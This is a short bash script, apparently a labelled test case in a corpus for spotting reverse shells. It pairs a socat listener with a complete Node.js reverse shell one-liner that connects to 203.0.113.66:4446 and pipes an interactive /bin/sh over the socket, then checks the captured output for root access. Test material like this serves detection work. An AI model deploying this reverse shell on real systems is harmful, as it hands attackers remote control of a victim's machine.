#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=node,dash far=out ready=out:4446 seconds=18 parts=dns
# node holds the connection and a shell's three ends, which are socket pairs, and passes on between them.
if [ "$1" = out ]; then (sleep 2; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
cd "$LAB" && timeout 18 node -e 'const s = require("net").connect(4446, "203.0.113.66"), p = require("child_process").spawn("/bin/sh", ["-i"]);
s.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s); p.on("exit", () => process.exit())'
grep -q uid=0 "$LAB/heard"
